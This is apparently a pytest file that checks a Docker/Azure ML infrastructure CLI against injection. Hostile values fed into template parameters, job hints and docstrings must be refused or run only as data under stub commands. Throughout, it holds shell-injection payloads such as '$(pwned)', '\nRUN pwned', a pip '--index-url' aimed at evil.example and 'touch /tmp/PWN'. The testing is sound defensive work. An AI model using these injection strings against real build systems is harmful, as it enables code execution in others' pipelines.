"""Rendered files are data, never code: hostile values for every Dockerfile template parameter, the job files'
`--set` hints and the smoke script's docstring.

For each template parameter (every templates/docker/*/template.yaml, so a new parameter is covered the day it
is declared) and each hostile fragment (`$(...)`, backticks, `;`, quotes, newline, CR, NUL, `&&`, a glob, a
leading `-`, ...), a value is either
- refused: `infra validate` gives a diagnostic at the value (never a crash) and rendering raises, writing
  nothing; or
- rendered as data: the Dockerfile has exactly the instructions a benign value gives, and its RUN lines, run
  under a real `sh` with every command they call replaced by a stub that records its argv, run no injected
  command and hand the value over as exactly the words it is.
"""

from __future__ import annotations

import ast
import json
import os
import subprocess
from pathlib import Path

import pytest
import yaml

from infra_cli.diagnostics import DiagnosticError
from infra_cli.image.dockerfile import render_dockerfile
from infra_cli.knowledge.docker_templates import GRAMMARS, load_template_meta
from infra_cli.paths import templates_dir
from infra_cli.smoke.job_templates import job_file_text, render_smoke_script
from infra_cli.smoke.spec import training_job
from infra_cli.knowledge.skus import load_catalog
from infra_cli.stack.load import load_stack
from infra_cli.validate.engine import validate_stack

HEADER = """\
stack: t
workspace: {subscription_id: 00000000-0000-0000-0000-000000000000, resource_group: rg, name: mlw, location: eastus}
"""
INJECTED = "pwned"        # the command every payload tries to run (a recording stub, so we see if it ran)
FRAGMENTS = [f"$({INJECTED})", f"`{INJECTED}`", f";{INJECTED}", f"'{INJECTED}'", f'"{INJECTED}"', f"\n{INJECTED}",
             f"\nRUN {INJECTED}", f"\r{INJECTED}", f"\0{INJECTED}", f"&&{INJECTED}", f"|{INJECTED}", "*", "?",
             f"-{INJECTED}", f" --index-url=https://evil.example/{INJECTED}", f"${{IFS}}{INJECTED}", "\\", "\u2028x"]

# grammar -> (good values to embed a fragment in, extra parameters that make the value's section render)
GOOD = {"image_reference": "ubuntu:22.04", "openmpi_source": "4.1.6", "pip_requirements": ["x"],
        "https_url_or_empty": "https://e.example/hpcx.tbz", "boolean": True, "git_ref": "v2.5-1", "text": "x"}
BASES = {
    "image_reference": (["{f}", "ubuntu:22.04{f}", "nvcr.io/nvidia/cuda{f}:12.4.1"], {}),
    "openmpi_source": (["{f}", "4.1.6{f}"], {}),
    "pip_requirements": (["{f}", "x{f}", "x @ https://e.example/x{f}.whl", "x; os_name == '{f}'",
                          "x[{f}]>=1"], {}),
    "https_url_or_empty": (["{f}", "https://e.example/hpcx{f}.tbz", "https://e.example/a?b={f}"], {}),
    "boolean": (["{f}"], {}),
    "git_ref": (["{f}", "v2.5-1{f}"], {"nccl_rdma_sharp_plugin": True}),
    "text": (["{f}", "x{f}"], {}),
}


def template_parameters_declared() -> list[tuple[str, str, str]]:
    """(template, parameter, grammar) for every parameter every Dockerfile template declares."""
    found = []
    for directory in sorted((templates_dir() / "docker").iterdir()):
        if (directory / "template.yaml").is_file():
            for name, spec in (load_template_meta(directory.name).get("parameters") or {}).items():
                found.append((directory.name, name, spec.get("grammar")))
    return found


DECLARED = template_parameters_declared()


def candidates() -> list[tuple[str, str, str, object]]:
    out = []
    for template, name, grammar in DECLARED:
        for base in BASES.get(grammar, ([], {}))[0]:
            for fragment in FRAGMENTS:
                value = base.format(f=fragment)
                out.append((template, name, grammar, [value] if grammar == "pip_requirements" else value))
    return out


CASES = candidates()


def test_every_template_parameter_has_a_grammar_and_hostile_cases():
    assert DECLARED, "no Dockerfile template found"
    for template, name, grammar in DECLARED:
        assert grammar in GRAMMARS, f"{template}: parameter {name!r} names no known grammar"
        assert grammar in BASES, f"{template}: no hostile cases for grammar {grammar!r} (parameter {name!r})"


def test_a_parameter_without_a_grammar_is_a_broken_template(tmp_path, monkeypatch):
    source = templates_dir() / "docker" / "openmpi-rdma"
    copy = tmp_path / "templates" / "docker" / "openmpi-rdma"
    copy.mkdir(parents=True)
    (copy / "Dockerfile.j2").write_text((source / "Dockerfile.j2").read_text())
    meta = yaml.safe_load((source / "template.yaml").read_text())
    del meta["parameters"]["hpcx_url"]["grammar"]
    (copy / "template.yaml").write_text(yaml.safe_dump(meta))
    monkeypatch.setattr("infra_cli.knowledge.docker_templates.templates_dir", lambda: tmp_path / "templates")
    with pytest.raises(DiagnosticError) as exc:
        render_dockerfile("openmpi-rdma", {})
    assert exc.value.diagnostics[0].rule == "knowledge.invalid" and "hpcx_url" in exc.value.diagnostics[0].message


# ---- running RUN lines under sh with stub commands ----------------------------------------------------

STUBBED = ["apt-get", "rm", "python3", "mkdir", "wget", "tar", "git", "make", "ldconfig", "nproc", "touch", "id",
           "curl", "sh", "bash", INJECTED]
RECORD = "#!/bin/sh\nprintf '%s\\0' \"$(($# + 1))\" \"${0##*/}\" \"$@\" >> \"$STUB_LOG\"\n"
PRELUDE = "cd() { printf '%s\\0' \"$(($# + 1))\" cd \"$@\" >> \"$STUB_LOG\"; }\n"   # cd is a builtin: a function


@pytest.fixture(scope="module")
def stubs(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("stubs")
    (root / "bin").mkdir()
    (root / "work").mkdir()
    for name in STUBBED:
        (root / "bin" / name).write_text(RECORD)
        (root / "bin" / name).chmod(0o755)
    for name in ("configure", "autogen.sh"):   # ./configure, ./autogen.sh in the working directory
        (root / "work" / name).write_text(RECORD)
        (root / "work" / name).chmod(0o755)
    return root


def instructions(dockerfile: str) -> list[tuple[str, str]]:
    """(KEYWORD, rest) per Dockerfile instruction, continuation lines joined as Docker joins them."""
    out, pending = [], ""
    for line in dockerfile.split("\n"):
        if not pending and (not line.strip() or line.lstrip().startswith("#")):
            continue
        if line.endswith("\\"):
            pending += line[:-1]
            continue
        line, pending = pending + line, ""
        keyword, _, rest = line.strip().partition(" ")
        out.append((keyword.upper(), rest))
    return out


def run_lines(stubs: Path, dockerfile: str, tmp_path: Path) -> list[list[str]]:
    """Run every RUN instruction under sh with only the stubs on PATH; the argv each command got."""
    log = tmp_path / "argv.log"
    log.write_bytes(b"")
    for keyword, rest in instructions(dockerfile):
        if keyword == "RUN":
            proc = subprocess.run(["/bin/sh", "-c", PRELUDE + rest], cwd=stubs / "work", capture_output=True,
                                  text=True, timeout=30, env={"PATH": str(stubs / "bin"), "STUB_LOG": str(log)})
            assert proc.returncode == 0, (rest, proc.stderr)
    fields = log.read_bytes().split(b"\0")[:-1]
    records, i = [], 0
    while i < len(fields):
        n = int(fields[i])
        records.append([f.decode() for f in fields[i + 1:i + 1 + n]])
        i += 1 + n
    return records


def _expect_argv(grammar: str, value, records: list[list[str]], dockerfile: str) -> None:
    """The value reached its command as exactly the words it is."""
    if grammar == "pip_requirements":
        installs = [r for r in records if r[:4] == ["python3", "-m", "pip", "install"] and "--no-binary=mpi4py" not in r]
        assert installs == [["python3", "-m", "pip", "install", "--no-cache-dir", *value]], installs
    elif grammar == "https_url_or_empty":
        assert ["wget", "-qO-", value] in records, records
    elif grammar == "git_ref":
        [clone] = [r for r in records if r[:2] == ["git", "clone"]]
        assert clone[clone.index("--branch") + 1] == value
    elif grammar == "openmpi_source":
        assert ["tar", "xzf", f"openmpi-{value}.tar.gz"] in records, records
    elif grammar == "image_reference":
        assert [rest for keyword, rest in instructions(dockerfile) if keyword == "FROM"] == [value]
    else:
        raise AssertionError(f"no argv check for grammar {grammar!r}: add one")


@pytest.mark.parametrize("template, name, grammar, value", CASES,
                         ids=[f"{c[1]}-{i}" for i, c in enumerate(CASES)])
def test_hostile_value_is_refused_or_rendered_as_data(stubs, tmp_path, template, name, grammar, value):
    extra = BASES[grammar][1]
    try:
        text = render_dockerfile(template, {**extra, name: value})
    except DiagnosticError as exc:
        assert exc.diagnostics and all(d.severity == "error" for d in exc.diagnostics)
        return
    benign = render_dockerfile(template, {**extra, name: GOOD[grammar]})
    assert [k for k, _ in instructions(text)] == [k for k, _ in instructions(benign)], "an instruction was injected"
    records = run_lines(stubs, text, tmp_path)
    assert not [r for r in records if r[0] in (INJECTED, "touch", "id", "curl", "sh", "bash")], records
    _expect_argv(grammar, value, records, text)


@pytest.mark.parametrize("grammar, value", [
    ("pip_requirements", ["x @ https://e.example/$(pwned)`pwned`;pwned&&pwned*.whl", 'y; os_name == "$(pwned)"']),
    ("https_url_or_empty", "https://e.example/$(pwned);pwned&&pwned'*"),
])
def test_values_the_grammar_allows_arrive_as_one_word(stubs, tmp_path, grammar, value):
    """Shell characters PEP 508 and RFC 3986 allow (a URL's `$`, `(`, `;`, `&`, `'`, `*`) are quoted, not run."""
    name = {"pip_requirements": "pip_packages", "https_url_or_empty": "hpcx_url"}[grammar]
    text = render_dockerfile("openmpi-rdma", {name: value})
    records = run_lines(stubs, text, tmp_path)
    assert not [r for r in records if r[0] == INJECTED]
    _expect_argv(grammar, value, records, text)


def test_issue_examples_are_refused():
    with pytest.raises(DiagnosticError, match="PEP 508"):
        render_dockerfile("openmpi-rdma", {"pip_packages": ["x$(touch /tmp/PWN)`id`"]})
    with pytest.raises(DiagnosticError, match="control characters"):
        render_dockerfile("openmpi-rdma", {"base_image": "ubuntu:22.04\nRUN touch /tmp/PWN"})


# ---- the same values at `infra validate` --------------------------------------------------------------

def yaml_text(value) -> str:
    """The value as flow YAML the stack loader reads back as it is: JSON (NUL, CR and newline as escapes),
    `$` doubled (the loader reads ${VAR} as a reference)."""
    return json.dumps(value).replace("$", "$$")


VALIDATE_CASES = [c for c in CASES if c[0] == "openmpi-rdma"]


@pytest.mark.parametrize("template, name, grammar, value", VALIDATE_CASES,
                         ids=[f"{c[1]}-{i}" for i, c in enumerate(VALIDATE_CASES)])
def test_validate_gives_a_diagnostic_at_the_value_exactly_when_render_refuses(tmp_path, template, name, grammar,
                                                                               value):
    extra = BASES[grammar][1]
    params = yaml_text({**extra, name: value})
    path = tmp_path / "stack.yaml"
    path.write_text(HEADER + f"environments:\n  env:\n    build:\n      template: {template}\n"
                             f"      parameters: {params}\n")
    diagnostics = validate_stack(load_stack(path))
    try:
        render_dockerfile(template, {**extra, name: value})
        refused = False
    except DiagnosticError:
        refused = True
    found = [d for d in diagnostics if d.rule == "environment.template-parameters"]
    assert bool(found) == refused, diagnostics
    never = ("\\n", "\\r", "\\u") + (() if grammar == "pip_requirements" else ("`", " --"))  # PEP 508 URLs and
    if any(c in json.dumps(value) for c in never):                    # marker strings may hold them, quoted
        assert found, f"{value!r} validated clean"
    for d in found:
        assert d.file == str(path) and d.line == 7 and d.column > 19 and d.hint, d   # at the value, not the mapping
        assert name in d.message


@pytest.mark.parametrize("fragment", [f for f in FRAGMENTS if f != f"-{INJECTED}"])   # 22.04-pwned is a tag
def test_environment_image_is_held_to_the_reference_grammar(tmp_path, fragment):
    path = tmp_path / "stack.yaml"
    path.write_text(HEADER + f"environments:\n  env:\n    image: {yaml_text('ubuntu:22.04' + fragment)}\n")
    [d] = [d for d in validate_stack(load_stack(path)) if d.rule == "environment.image-reference"]
    assert (d.line, d.column) == (5, 12) and "distribution/reference" in d.hint


# ---- job files and smoke scripts ----------------------------------------------------------------------

def _job_stack(tmp_path: Path, *distribution_lines: str) -> Path:
    """A one-distribution stack whose distribution ends with `distribution_lines` (the first at line 13)."""
    path = tmp_path / "stack.yaml"
    path.write_text(HEADER + """\
clusters:
  gpu: {size: Standard_ND96asr_v4, max_instances: 2}
environments:
  env: {curated: "azureml:AzureML-ACPT-pytorch-1.13-py38-cuda11.7-gpu@latest"}
distributions:
  job:
    cluster: gpu
    environment: env
    type: pytorch
    process_count_per_instance: 8
""" + "".join(f"    {line}\n" for line in distribution_lines))
    return path


def test_set_hint_for_a_sensitive_value_pastes_as_data(stubs, tmp_path):
    """The job file's header says how to pass a sensitive value: pasted into sh it passes exactly the value."""
    written = "Bearer ${HF_TOKEN}$(pwned)`pwned`'\";pwned"
    path = _job_stack(tmp_path, "command: python train.py", f"environment_variables: {{AUTH: {json.dumps(written)}}}")
    os.environ["HF_TOKEN"] = "secret"
    try:
        loaded = load_stack(path)
    finally:
        del os.environ["HF_TOKEN"]
    spec = training_job(loaded, "job", load_catalog(), None)
    text = job_file_text(loaded, "job", spec, "train-job.yml")
    [line] = [l for l in text.splitlines() if l.startswith("# Pass them when creating: ")]
    assert yaml.safe_load(text)["command"] == "python train.py"
    (stubs / "bin" / "az").write_text(RECORD)
    (stubs / "bin" / "az").chmod(0o755)
    log = tmp_path / "argv.log"
    subprocess.run(["/bin/sh", "-c", line.removeprefix("# Pass them when creating: ")], check=True, timeout=30,
                   env={"PATH": str(stubs / "bin"), "STUB_LOG": str(log), "HF_TOKEN": "tok"})
    fields = log.read_bytes().split(b"\0")[:-1]
    assert [f.decode() for f in fields[1:]] == [
        "az", "ml", "job", "create", "-f", "train-job.yml", "--set",
        "environment_variables.AUTH=Bearer tok$(pwned)`pwned`'\";pwned"]


@pytest.mark.parametrize("script", ["ddp_smoke.py", "tf_smoke.py"])
def test_names_cannot_end_the_smoke_scripts_docstring(script):
    name = 'x"""\nimport os; os.system("pwned")\n"""\\'
    text = render_smoke_script(script, stack=name, distribution=name)
    tree = ast.parse(text)
    calls = [n for n in ast.walk(tree) if isinstance(n, ast.Call) and getattr(n.func, "attr", None) == "system"]
    assert not calls
    assert name in ast.get_docstring(tree)


@pytest.mark.parametrize("name", ["A\nB", "A\rB", "A\x7fB", "A\x1bB"])
def test_environment_variable_name_with_a_control_character_is_a_diagnostic(tmp_path, name):
    """A name is written on the job file's comment lines (the --set hint): a newline in it would start YAML."""
    path = _job_stack(tmp_path, f"environment_variables: {{{yaml_text(name)}: x}}")
    [d] = [d for d in validate_stack(load_stack(path)) if d.rule == "distribution.environment-variable-name"]
    assert d.line == 13 and "control characters" in d.hint


# ---- the second layer alone: the grammar check bypassed, the template's filters still hold -------------------

@pytest.fixture
def unchecked(monkeypatch):
    """render_dockerfile with the first layer (each parameter's grammar) bypassed: values reach the template as
    given, so only its own filters (`sh` on RUN lines, `image` on FROM, one line everywhere) stand between."""
    from infra_cli.knowledge.docker_templates import parameter_problems

    monkeypatch.setattr("infra_cli.image.dockerfile.template_parameters",
                        lambda template, parameters: parameter_problems(template, parameters)[0])


@pytest.mark.parametrize("name, value, extra", [
    ("nccl_rdma_sharp_plugin_ref", f"v1;{INJECTED}", {"nccl_rdma_sharp_plugin": True}),
    ("nccl_rdma_sharp_plugin_ref", f"v1 $({INJECTED})", {"nccl_rdma_sharp_plugin": True}),
    ("hpcx_url", f"http://e.example/x.tbz;{INJECTED}", {}),
    ("openmpi_source", f"4.1.6;{INJECTED}", {}),
    ("pip_packages", [f"x;{INJECTED}", f"$({INJECTED})"], {}),
], ids=["ref-semicolon", "ref-substitution", "url", "openmpi", "pip"])
def test_run_lines_quote_what_the_grammar_would_have_refused(unchecked, stubs, tmp_path, name, value, extra):
    text = render_dockerfile("openmpi-rdma", {**extra, name: value})
    records = run_lines(stubs, text, tmp_path)
    assert not [r for r in records if r[0] == INJECTED], records
    grammar = {"nccl_rdma_sharp_plugin_ref": "git_ref", "hpcx_url": "https_url_or_empty",
               "openmpi_source": "openmpi_source", "pip_packages": "pip_requirements"}[name]
    _expect_argv(grammar, value, records, text)


@pytest.mark.parametrize("value", [f"ubuntu;{INJECTED}", f"ubuntu:22.04 AS x\nRUN {INJECTED}", "ubuntu:22.04 AS x",
                                   f"$({INJECTED})"])
def test_from_takes_only_an_image_reference_with_the_grammar_check_bypassed(unchecked, value):
    with pytest.raises(DiagnosticError) as refused:
        render_dockerfile("openmpi-rdma", {"base_image": value})
    assert refused.value.diagnostics[0].rule == "build.parameters"
    assert "not rendered into a Dockerfile" in refused.value.diagnostics[0].message


def test_a_newline_anywhere_stops_the_render_with_the_grammar_check_bypassed(unchecked):
    with pytest.raises(DiagnosticError, match="control characters"):
        render_dockerfile("openmpi-rdma", {"nccl_rdma_sharp_plugin": True, "nccl_rdma_sharp_plugin_ref": f"v1\nRUN {INJECTED}"})
